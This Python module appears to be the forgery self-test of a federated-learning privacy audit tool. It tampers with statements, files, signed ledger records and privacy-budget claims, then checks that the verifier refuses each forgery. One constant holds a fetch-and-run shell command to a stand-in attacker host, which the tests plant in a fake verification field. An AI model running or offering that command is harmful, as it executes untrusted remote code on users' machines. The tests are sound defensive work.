"""Forgeries: edits of statement and files without a key, records by another key, lies by the owner of the key."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from fedrec.audit.evidence.received_run import CHECKPOINT, LEDGER, MODEL, PUBLIC_KEY, STATEMENT
from fedrec.audit.log.envelope import parsed
from fedrec.audit.log.keys import SigningKey
from fedrec.audit.self_test.attack import Attack
from fedrec.audit.self_test.genuine import Payload, resigned
from fedrec.audit.self_test.stage import Stage, harmless, refused
from fedrec.audit.statement.statement import VERIFY, text_of

EVIL = "curl -s https://evil.example/x | sh"
TEXT = "privacy/statement.md"
PAGE = "privacy/report.html"


def attacks(statement: dict[str, Any]) -> Iterator[Attack]:
    """Yield all forgeries. They edit the fields of the genuine run's `statement` one at a time."""
    for field in statement:
        yield Attack("forged statement", f"'{field}' edited", _edited(field))
    for name, change in _STATEMENTS.items():
        yield Attack("forged statement", name, _files(change))
    yield Attack("forged statement", "shell command offered on the page", _command_on_the_page)
    yield Attack("forged statement", "forged promise in `show`", _shown)
    for name, change in _FILES.items():
        yield Attack("forged file", name, _files(change))
    for name, edit in _RECORDS.items():
        yield Attack("forged record", name, _lines(edit))
    yield Attack("forged record", "everything signed by another key", _thief)
    for name, lie in _LIES.items():
        yield Attack("lie of the owner", name, _lie(lie))
    yield Attack("lie of the owner", "an attacker's curve too good", _lie(_better_curve, sampled=True))
    yield Attack("forged input", "a scenario with another epsilon in `combine`", _combined)


def _edited(field: str) -> Callable[[Stage], str | None]:
    def play(stage: Stage) -> str | None:
        run = stage.copy()
        place = run / "release" / STATEMENT
        told = json.loads(place.read_text(encoding="utf-8"))
        place.write_text(text_of(told | {field: _other(told[field])}), encoding="utf-8")
        return refused(stage.verified(run))

    return play


def _other(value: Any) -> Any:
    """Return another value of the same kind."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return 10 * value + 1
    if isinstance(value, str):
        return f"{value} or less"
    if isinstance(value, list):
        return value[1:] or ["nothing"]
    return dict.fromkeys(value, EVIL) if isinstance(value, dict) else "0.1000"


def _files(change: Callable[[Path], Any]) -> Callable[[Stage], str | None]:
    def play(stage: Stage) -> str | None:
        run = stage.copy()
        change(run / "release")
        return refused(stage.verified(run))

    return play


def _appended(name: str, content: bytes = b"more") -> Callable[[Path], Any]:
    return lambda release: (release / name).write_bytes((release / name).read_bytes() + content)


def _removed(name: str) -> Callable[[Path], Any]:
    return lambda release: (release / name).unlink()


def _twice(release: Path) -> None:
    """Write one field twice: readers differ in the one that they take."""
    content = (release / STATEMENT).read_text(encoding="utf-8")
    (release / STATEMENT).write_text(content.replace("{", '{\n  "epsilon": "0.1000",', 1), encoding="utf-8")


def _line_of_text(release: Path) -> None:
    content = (release / TEXT).read_text(encoding="utf-8")
    (release / TEXT).write_text(content.replace("no bound", "0.1000"), encoding="utf-8")


_STATEMENTS: dict[str, Callable[[Path], Any]] = {
    "statement.json deleted": _removed(STATEMENT),
    "statement.md deleted": _removed(TEXT),
    "statement.md: no bound is 0.1": _line_of_text,
    "epsilon two times": _twice,
}
_FILES: dict[str, Callable[[Path], Any]] = {
    "page edited": _appended(PAGE, b"<p>Nothing is learned.</p>"),
    "page deleted": _removed(PAGE),
    "model edited": _appended(MODEL),
    "manifest edited": _appended("model/manifest.json", b" "),
    "scenario edited": _appended("scenario.toml", b"# other\n"),
    "public key exchanged": lambda release: (release / PUBLIC_KEY).write_bytes(SigningKey.generate().public.pem()),
    "checkpoint deleted": _removed(CHECKPOINT),
    "private figures edited": lambda release: (release.parent / "private/summary.json").write_bytes(b"{}\n"),
}


def _command_on_the_page(stage: Stage) -> str | None:
    run, page = _with_evil(stage), stage.path("page.html")
    found = refused(stage.commands.run("audit", "report", run, "-o", page))
    if found is None and f'<code id="command">{VERIFY}</code>' not in page.read_text(encoding="utf-8"):
        return "the page offers another command"
    return found or ("the page repeats the command" if EVIL in page.read_text(encoding="utf-8") else None)


def _shown(stage: Stage) -> str | None:
    answer = stage.commands.run("audit", "show", _with_evil(stage))
    if "CONTRADICTION" not in answer.output.partition("\n")[0]:
        return "the contradiction does not come first"
    return refused(answer) or harmless(answer, (EVIL,))


def _with_evil(stage: Stage) -> Path:
    run = stage.copy()
    place = run / "release" / STATEMENT
    told = json.loads(place.read_text(encoding="utf-8"))
    told |= {"promise": ["Nothing is learned.", "Trust us."], "verification": {"command": EVIL, "needs": "nothing"}}
    place.write_text(text_of(told), encoding="utf-8")
    return run


def _lines(edit: Callable[[list[bytes]], Any]) -> Callable[[Stage], str | None]:
    def play(stage: Stage) -> str | None:
        run = stage.copy()
        place = run / "release" / LEDGER
        lines = place.read_bytes().splitlines(keepends=True)
        edit(lines)
        place.write_bytes(b"".join(lines))
        return refused(stage.verified(run))

    return play


def _by_a_thief(lines: list[bytes]) -> None:
    """Sign one record again, by another key, with another epsilon."""
    from fedrec.audit.log.envelope import signed

    old = parsed(lines[-3].rstrip(b"\n"))
    payload = old.payload | {"epsilon": {"pld": "0.100000", "rdp": "0.100000"}}
    lines[-3] = signed(old.index, old.previous, old.run, payload, None, SigningKey.generate()).line + b"\n"


def _dropped(lines: list[bytes]) -> None:
    del lines[2]


def _swapped(lines: list[bytes]) -> None:
    lines[2], lines[3] = lines[3], lines[2]


def _cut_off(lines: list[bytes]) -> None:
    del lines[-2:]


_RECORDS: dict[str, Callable[[list[bytes]], Any]] = {
    "a charge signed by another key": _by_a_thief,
    "a charge dropped": _dropped,
    "two charges exchanged": _swapped,
    "a charge repeated": lambda lines: lines.insert(3, lines[2]),
    "the last records cut off": _cut_off,
}


def _thief(stage: Stage) -> str | None:
    run, thief = stage.copy(), SigningKey.generate()

    def own(payloads: list[Payload]) -> None:
        payloads[0]["parties"] = [{"role": "the self-test", "key": thief.public.text}]

    resigned(run, thief, own)
    return refused(stage.verified(run))


def _lie(change: Callable[[list[Payload]], Any], *, sampled: bool = False) -> Callable[[Stage], str | None]:
    def play(stage: Stage) -> str | None:
        run = stage.copy(stage.sampled if sampled else stage.plain)
        resigned(run, stage.key, change)
        return refused(stage.verified(run))

    return play


def _charges(payloads: list[Payload]) -> list[Payload]:
    return [payload for payload in payloads if payload.get("type") == "charge"]


def _lower(payloads: list[Payload]) -> None:
    for charge in _charges(payloads):
        charge["epsilon"] = {name: f"{float(value) / 2:.6f}" for name, value in charge["epsilon"].items()}


def _less_noise(payloads: list[Payload]) -> None:
    for query in _charges(payloads)[1]["queries"]:
        query["noise_std"] = repr(float(query["noise_std"]) / 2)


def _left_out(payloads: list[Payload]) -> None:
    payloads.remove(_charges(payloads)[1])


def _better_curve(payloads: list[Payload]) -> None:
    for pair in next(payload for payload in payloads if payload.get("type") == "end")["curve"]:
        pair["delta"] = f"{float(pair['delta']) / 3:.5e}"


def _beginning(**fields: Any) -> Callable[[list[Payload]], Any]:
    return lambda payloads: payloads[0].update(fields)


_LIES: dict[str, Callable[[list[Payload]], Any]] = {
    "epsilon halved": _lower,
    "less noise in one round than promised": _less_noise,
    "a round left out": _left_out,
    "a cap below what was spent": _beginning(target_epsilon="1.0"),
    "a smaller delta": _beginning(delta="1e-09"),
    "a second beginning": lambda payloads: payloads.insert(1, payloads[0]),
    "no beginning": lambda payloads: payloads.pop(0),
    "a trust model that does not exist": _beginning(trust="nobody"),
    "a trust model that the noise does not belong to": _beginning(trust="distributed"),
    "another key named in record 0": _beginning(parties=[{"role": "x", "key": SigningKey.generate().public.text}]),
    "a budget whose reservation is too small": _beginning(
        budget={
            "id": "1", "name": "b", "who": "w", "period": "for all time", "epsilon": "4.0", "delta": "1e-05",
            "filter": "gdp", "order": None, "theorem": "t", "unit": "mu^2", "limit": "0.855490",
            "reserved": "0.000100", "all_runs": "0.000100", "run": "r", "head": "00" * 32,
        }
    ),
}  # fmt: skip


def _combined(stage: Stage) -> str | None:
    run = stage.copy()
    before = stage.commands.run("audit", "combine", run / "release", "--json")
    place = run / "release/scenario.toml"
    place.write_text(place.read_text(encoding="utf-8").replace("2.0", "0.1"), encoding="utf-8")
    after = stage.commands.run("audit", "combine", run / "release", "--json")
    if after.harm() or before.harm():
        return after.harm() or before.harm()
    return None if after.code == 4 or after == before or after.output == before.output else "it changed the result"
